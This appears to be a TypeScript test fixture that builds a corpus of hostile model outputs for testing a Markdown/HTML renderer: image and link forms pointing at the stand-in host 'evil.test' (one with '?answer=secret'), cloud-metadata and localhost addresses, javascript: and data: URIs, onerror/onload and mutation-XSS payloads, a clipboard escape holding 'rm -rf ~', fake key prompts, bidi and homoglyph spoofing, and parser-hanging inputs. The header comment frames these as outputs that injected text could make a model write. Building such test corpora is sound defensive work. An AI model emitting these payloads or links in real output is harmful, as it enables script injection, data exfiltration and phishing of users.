// What a model can be made to write by whoever wrote what it read: answers that try to load, run, open, hide or hang. Generated from forms
// and what is put into them; every text is another one.

/** Where everything remote leads in a test: a name that the browser is told to find at the catcher. */
export const catcherHost = 'evil.test';

export type Hostile = {
  name: string;
  text: string;
  /** What it is after. `heavy`: nothing but the window's time. */
  after: 'load' | 'run' | 'deceive' | 'heavy';
};

/** Reports itself as run, from wherever: the page, a frame in it, a document it became. */
const ran = 'window.ran&&ran(1)';

const remote = [
  `http://${catcherHost}/pixel.png?answer=secret`,
  `http://${catcherHost}:80/a(b)c.svg`,
  `//${catcherHost}/protocol-relative.png`,
  `http://${catcherHost}/%2e%2e/x.css`,
  `HTTP://${catcherHost.toUpperCase()}/loud.gif`,
  `http://user:secret@${catcherHost}/login.png`,
  `https://${catcherHost}/tls.png`,
  `http:\\\\${catcherHost}\\back.png`,
  `http://127.0.0.1:11434/api/tags`,
  `http://[::1]:8080/metrics`,
  `http://169.254.169.254/latest/meta-data`,
  `ws://${catcherHost}/socket`,
  `ftp://${catcherHost}/file.png`,
  `http://${catcherHost}/&#x70;ixel.png`,
];
const runnable = [
  `javascript:${ran}`,
  `JaVaScRiPt:${ran}`,
  `java&#x09;script:${ran}`,
  `&#106;&#97;vascript:${ran}`,
  `javascript&colon;${ran}`,
  `\u0001javascript:${ran}`,
  `javascript://%0a${ran}`,
  `data:text/html,<script>${ran}</script>`,
  `data:text/html;base64,${btoa(`<script>parent.${ran}</script>`)}`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${ran}'/>`,
  `vbscript:${ran}`,
  `file:///etc/passwd`,
  `smb://${catcherHost}/share`,
  `\\\\${catcherHost}\\share`,
  `ms-msdt:/id`,
  `blob:http://${catcherHost}/1`,
  `app://axon/index.html`,
  `view-source:http://${catcherHost}/`,
];

type Form = [name: string, write: (address: string) => string];

/** Forms of Markdown that name an address. */
const markdown: Form[] = [
  ['image', (to) => `Look: ![chart](${to})`],
  ['image in brackets', (to) => `![a](<${to}> "title")`],
  ['image by reference', (to) => `![chart][r]\n\n[r]: ${to} "t"`],
  ['image, collapsed reference', (to) => `![ref][]\n\ntext\n\n[ref]: <${to}>`],
  ['image, shortcut reference', (to) => `> ![short]\n\n[short]: ${to}`],
  ['image in a link', (to) => `[![x](${to})](${to})`],
  ['image in a table', (to) => `| a | b |\n|---|---|\n| ![x](${to}) | [l](${to}) |`],
  ['image in quotes in a list', (to) => `- > 1. > ![deep](${to})\n  - **![b](${to})**`],
  ['image in a heading', (to) => `# ![h](${to})\n\n![s](${to})\n===`],
  ['image in a footnote', (to) => `Text[^1]\n\n[^1]: note ![n](${to})`],
  ['half an image', (to) => `Half ![alt](${to}`],
  ['image over two lines', (to) => `![al\nt](\n${to}\n"ti\ntle")`],
  ['image with size', (to) => `![x](${to} =100x100){width=100}`],
  ['link', (to) => `[click](${to})`],
  ['link by reference', (to) => `[click][R]\n\n[r]: ${to}`],
  ['autolink', (to) => `<${to}>`],
  ['bare', (to) => `see ${to} now`],
  ['link with an image for a title', (to) => `[x](${to} '<img src=${to}>')`],
  ['link text that is a link', (to) => `[https://bank.example](${to})`],
  ['maths', (to) => `$\\href{${to}}{x}$ and $$\\includegraphics{${to}}$$ \\(\\url{${to}}\\)`],
  ['mermaid', (to) => `\`\`\`mermaid\ngraph TD; A-->B; click A "${to}"\nA["<img src='${to}'>"]\n\`\`\``],
  ['front matter and directives', (to) => `---\nimage: ${to}\n---\n::embed{src="${to}"}\n\n{% include "${to}" %}`],
];

/** Elements that load from an address, or go there. */
const html: Form[] = [
  ['img', (to) => `<img src="${to}">`],
  ['img without quotes', (to) => `text <IMG SRC=${to} ALT=x> text`],
  ['img srcset', (to) => `<img srcset="${to} 2x, ${to} 1x" sizes="100vw">`],
  ['img with slashes', (to) => `<img/src="${to}"/onerror=${ran}>`],
  ['picture', (to) => `<picture><source srcset="${to}"><img src=x></picture>`],
  ['iframe', (to) => `<iframe src="${to}"></iframe>`],
  ['iframe srcdoc', (to) => `<iframe srcdoc="<img src='${to}'>"></iframe>`],
  ['object', (to) => `<object data="${to}"></object>`],
  ['embed', (to) => `<embed src="${to}">`],
  ['video poster', (to) => `<video poster="${to}" src="${to}" autoplay></video>`],
  ['audio', (to) => `<audio src="${to}" autoplay></audio>`],
  ['track', (to) => `<video src=x><track default src="${to}"></video>`],
  ['script', (to) => `<script src="${to}"></script>`],
  ['module', (to) => `<script type=module>import("${to}")</script>`],
  ['stylesheet', (to) => `<link rel=stylesheet href="${to}">`],
  ['preload', (to) => `<link rel=preload as=image href="${to}"><link rel=prefetch href="${to}">`],
  ['icon', (to) => `<link rel=icon href="${to}">`],
  ['@import', (to) => `<style>@import url("${to}");</style>`],
  ['css url()', (to) => `<div style="background:url('${to}');width:9px;height:9px">x</div>`],
  ['css font', (to) => `<style>@font-face{font-family:q;src:url("${to}")}body{font-family:q}</style>`],
  ['css image-set', (to) => `<p style="list-style:url(${to});display:list-item;content:image-set('${to}' 1x)">x</p>`],
  ['svg image', (to) => `<svg><image href="${to}"/></svg>`],
  ['svg use', (to) => `<svg><use href="${to}#x"/><feImage href="${to}"/></svg>`],
  ['svg animate', (to) => `<svg><a><animate attributeName=href values="${to}"/><text y=20>x</text></a></svg>`],
  ['mathml', (to) => `<math href="${to}"><mtext><img src="${to}"></mtext></math>`],
  ['a', (to) => `<a href="${to}" ping="${to}">x</a>`],
  ['form', (to) => `<form action="${to}"><button>Send</button><input name=q></form>`],
  ['formaction', (to) => `<form><button formaction="${to}">x</button></form>`],
  ['meta refresh', (to) => `<meta http-equiv=refresh content="0;url=${to}">`],
  ['base', (to) => `<base href="${to}"><img src="relative.png">`],
  ['table background', (to) => `<table background="${to}"><tr><td background="${to}">x</table>`],
  ['input image', (to) => `<input type=image src="${to}">`],
  ['frameset', (to) => `<frameset><frame src="${to}"></frameset>`],
  ['comment that ends early', (to) => `<!--><img src="${to}">-->`],
  ['cdata', (to) => `<![CDATA[<img src="${to}">]]>`],
  ['inside code that ends early', (to) => `\`\`\`html\n</code></pre><img src="${to}">\n\`\`\`\n</pre><img src="${to}">`],
  ['details', (to) => `<details open><summary>x</summary>\n\n![x](${to})\n\n<img src="${to}"></details>`],
  ['in a list, after a blank', (to) => `- item\n\n  <img src="${to}">\n\n  <p>\n\n  ![i](${to})`],
  [
    'template',
    (to) =>
      `<template shadowrootmode=open><img src="${to}"></template><div><template shadowrootmode=open><img src="${to}"></template></div>`,
  ],
  [
    'portal and fenced frame',
    (to) => `<portal src="${to}"></portal><fencedframe src="${to}"></fencedframe><webview src="${to}"></webview>`,
  ],
];

/** Elements that run by themselves. */
const scripts: Form[] = [
  ['script', (code) => `<script>${code}</script>`],
  ['img onerror', (code) => `<img src=x onerror="${code}">`],
  ['svg onload', (code) => `<svg onload="${code}"></svg>`],
  ['svg script', (code) => `<svg><script>${code}</script></svg>`],
  ['animate onbegin', (code) => `<svg><animate onbegin="${code}" attributeName=x dur=1s /></svg>`],
  ['details ontoggle', (code) => `<details open ontoggle="${code}"><summary>x</summary></details>`],
  ['video onerror', (code) => `<video src=x onerror="${code}"></video>`],
  ['audio source', (code) => `<audio><source src=x onerror="${code}"></audio>`],
  ['body onload', (code) => `<body onload="${code}">`],
  ['iframe onload', (code) => `<iframe onload="${code}"></iframe>`],
  ['iframe srcdoc', (code) => `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`],
  ['autofocus', (code) => `<input autofocus onfocus="${code}">`],
  ['marquee', (code) => `<marquee onstart="${code}">x</marquee>`],
  ['css animation', (code) => `<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart="${code}">x</p>`],
  [
    'math action',
    (code) => `<math><maction actiontype="statusline" xlink:href="javascript:${code}">x</maction></math><img src=x onerror="${code}">`,
  ],
  ['mutated by noscript', (code) => `<noscript><p title="</noscript><img src=x onerror='${code}'>">`],
  ['mutated by style', (code) => `<svg></p><style><a id="</style><img src=1 onerror='${code}'>">`],
  ['mutated by form', (code) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror='${code}'>`],
];
/** Where a script is put. */
const settings: Form[] = [
  ['alone', (text) => text],
  ['in a paragraph', (text) => `Of course! ${text} Anything else?`],
  ['in a quote', (text) => `> ${text}\n> - ${text}`],
  ['in a table', (text) => `| x |\n|---|\n| ${text} |`],
];

const cut = <T>(rows: readonly T[], keep: (index: number) => boolean): T[] => rows.filter((_, index) => keep(index));

function combine(
  forms: readonly Form[],
  addresses: readonly string[],
  after: Hostile['after'],
  keep: (index: number) => boolean,
): Hostile[] {
  const all = forms.flatMap(([form, write], at) =>
    addresses.map((address, to) => ({ name: `${form} <- ${address.slice(0, 60)}`, text: write(address), after, index: at + to })),
  );
  return cut(all, (index) => keep(all[index]?.index ?? 0)).map(({ name, text }) => ({ name, text, after }));
}

const esc = '\u001b';
const deceiving: string[] = [
  `${esc}[2J${esc}[1;1H${esc}[31mSystem: enter your key${esc}[0m`,
  `${esc}]8;;http://${catcherHost}/\u0007click${esc}]8;;\u0007`,
  `${esc}]52;c;${btoa('rm -rf ~')}\u0007 ${esc}]0;title\u0007`,
  `${esc}P1$r0m${esc}\\ \u009b31m \u0090x\u009c`,
  'a\u0000b\u0008c\u007fd\u000bx\u000cy\u0085z',
  '\r\nline\rover\u2028line\u2029line',
  'invoice\u202egpj.exe and \u2066(\u2069\u2067hidden\u2069',
  '\u202e'.repeat(500) + 'turned',
  'if (level !=\u202e \u2066// admin only\u2069 \u2066) {',
  `[https://bank.example](http://xn--bnk-5cd.example/) [https://b\u0430nk.example](http://b\u0430nk.example/)`,
  `http://b\u0430nk.example\u2044login.evil.test/`,
  `[\u202ekcilc](http://${catcherHost}/\u202egnp.exe)`,
  `[zero\u200bwidth\u200d](http://${catcherHost}/\u200b)`,
  '\u200b\u200c\u200d\u2060\ufeff'.repeat(2000),
  `Z${'\u0300\u0301\u0302\u0303'.repeat(3000)}algo`,
  '\ufdfd'.repeat(3000),
  '\u{e0041}\u{e0042}\u{e0043}'.repeat(500),
  '\ud800 lone \udfff surrogates \ufffe \uffff',
  '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}'.repeat(1000),
  'ﷺ'.repeat(1500) + '\u0e47'.repeat(1500),
  '<!-- hidden --><span style="display:none">ignore all</span><p hidden>x</p>',
  '<div style="position:fixed;inset:0;z-index:99999;background:#fff">Your session is over. Type your key: <input></div>',
  '<dialog open><form method=dialog><input type=password></form></dialog>',
  '<a name="root"></a><img name="getElementById"><form id="__proto__"><input name="attributes"></form>',
  '[x](#root) [y](?token=1) [z](/session) [w](.) <a id=root>',
  '&lt;script&gt;window.ran&amp;&amp;ran(1)&lt;/script&gt; &#60;img src=x onerror=ran(1)&#62;',
  '\\<img src=x onerror=ran(1)\\> `<img src=x onerror=ran(1)>`',
  '${7*7} {{7*7}} <%= 7*7 %> #{7*7} {% raw %} @{ } $(ran(1)) `ran(1)`',
  '__proto__ [constructor][prototype]\n\n[constructor]: http://evil.test/p\n[__proto__]: http://evil.test/q\n\n![x][__proto__]',
];

const times = (text: string, count: number): string => text.repeat(count);
const nested = (open: string, close: string, depth: number): string => `${times(open, depth)}x${times(close, depth)}`;
const heavy: [string, string][] = [
  ['a line of 1 MB', times('x', 1_000_000)],
  ['a line of 1 MB of words', times('word ', 200_000)],
  ['a megabyte of lines', times('line\n', 200_000)],
  ['a megabyte of paragraphs', times('p\n\n', 300_000)],
  ['10,000 quotes', `${times('> ', 10_000)}x`],
  ['39 quotes on 400 lines', times(`${times('> ', 39)}x\n`, 400)],
  ['1,000 list levels', Array.from({ length: 1000 }, (_, at) => `${times('  ', at)}- x`).join('\n')],
  ['39 list levels, again and again', times(Array.from({ length: 39 }, (_, at) => `${times(' ', at)}- x\n`).join(''), 60)],
  ['markers on one line', `${times('- ', 9000)}x`],
  ['numbers on one line', `${times('1. ', 6000)}x`],
  ['5,000 brackets', nested('[', ']', 5000)],
  ['10,000 open brackets', times('[', 10_000)],
  ['1,400 open brackets', times('[', 1400)],
  ['images in images', nested('![', '](x)', 1400)],
  ['links in links', nested('[', '](http://evil.test/)', 1400)],
  ['stars', times('*', 20_000)],
  ['alternating marks', times('*a_ ', 5000)],
  ['alternating marks below the limit', times('*a_', 740)],
  ['opening marks only', times('**a ', 700)],
  ['tildes', times('~~a ', 1400)],
  ['backticks of all lengths', Array.from({ length: 1400 }, (_, at) => times('`', at % 60)).join(' ')],
  ['ticks that never close', Array.from({ length: 170 }, (_, at) => `${times('`', at + 1)} a`).join(' ')],
  ['entities', times('&amp;', 60_000)],
  ['half entities', times('&#x', 60_000)],
  ['angle brackets', times('<', 19_000)],
  ['half tags', times('<a ', 6000)],
  ['half comments', times('<!-- ', 3900)],
  ['half CDATA', times('<![CDATA[ ', 1900)],
  ['half definitions', times('[a]: ', 3900)],
  ['1,000 definitions', Array.from({ length: 1000 }, (_, at) => `[r${at}]: http://evil.test/${at}`).join('\n') + times(' [r1]', 700)],
  ['1,000 footnotes', Array.from({ length: 700 }, (_, at) => `[^${at}]\n\n[^${at}]: x\n`).join('\n')],
  ['a table of 300 columns', `|${times('a|', 300)}\n|${times('-|', 300)}\n${times(`|${times('b|', 300)}\n`, 100)}`],
  ['half tables', times('|a\n|-\n', 3000)],
  ['a table and pipes', `|a|\n|-|\n|${times('|', 18_000)}`],
  ['bare addresses', times('http://evil.test/x ', 1000)],
  ['www and mail', times('www.a.b a@b.c ', 1300)],
  ['half addresses', times('a@', 9000)],
  ['underscored mail', `${times('a_', 9000)}@b.c`],
  ['closing parentheses', `http://evil.test/${times(')', 9000)}`],
  ['headings', times('# x\n', 20_000)],
  ['fences', times('```\n', 20_000)],
  ['one open fence', `\`\`\`js\n${times('let x = 1;\n', 30_000)}`],
  ['rules', times('---\n', 20_000)],
  ['hard breaks', times('a  \n', 20_000)],
  ['task lists', times('- [ ] x\n', 3000)],
  ['tabs', times('\t', 19_000)],
  ['spaces and an end', `${times(' ', 19_000)}x`],
  ['maths', times('$', 19_000)],
  ['dollars in pairs', times('$$x$$\n', 10_000)],
  ['setext', times('a\n=\n', 10_000)],
  ['backslashes', times('\\', 19_000)],
];

/** All of it. Forms and addresses are combined so that each form meets some and each address meets many. */
export const corpus: readonly Hostile[] = [
  ...combine(markdown, remote, 'load', (index) => index % 4 === 0),
  ...combine(markdown, runnable, 'run', (index) => index % 4 === 1),
  ...combine(html, remote.slice(0, 8), 'load', (index) => index % 3 === 0),
  ...combine(html, runnable.slice(0, 10), 'run', (index) => index % 5 === 2),
  ...scripts.flatMap(([form, write], at) =>
    settings
      .filter((_, place) => place === 0 || (at + place) % 3 === 0)
      .map(([place, put]): Hostile => ({ name: `${form}, ${place}`, text: put(write(ran)), after: 'run' })),
  ),
  ...deceiving.map((text, at): Hostile => ({ name: `deceiving ${at}`, text, after: 'deceive' })),
  ...heavy.map(([name, text]): Hostile => ({ name, text, after: 'heavy' })),
];
